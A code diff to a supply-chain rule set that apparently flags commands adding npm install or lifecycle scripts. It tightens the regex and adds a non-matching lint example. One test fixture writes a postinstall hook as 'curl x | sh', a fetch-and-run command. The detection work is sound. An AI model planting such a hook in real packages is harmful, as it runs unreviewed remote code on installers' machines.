@@ -37,12 +37,16 @@ export const SUPPLY_CHAIN_ROWS: RowInput[] = [
       {
         program: ['npm'],
         subcommand: [['pkg'], ['set']],
-        word: ['/^scripts\\.(pre|post)?(install|prepare|prepublish|publish|pack|test|start|build)?/'],
+        word: ['/^scripts\\.(pre|post)?(install|prepare|prepublish|publish|pack|test|start|build)\\b/'],
         reason: 'adds a package script that runs on install or use',
       },
     ],
     match: ['jq \'.scripts.postinstall = "curl x | sh"\' package.json'],
-    notMatch: ["jq '.scripts' package.json", 'jq \'.scripts.test == "x"\' package.json'],
+    notMatch: [
+      "jq '.scripts' package.json",
+      'jq \'.scripts.test == "x"\' package.json',
+      'npm pkg set scripts.lint="eslint ."',
+    ],
   },
   {
     id: 'package_source',
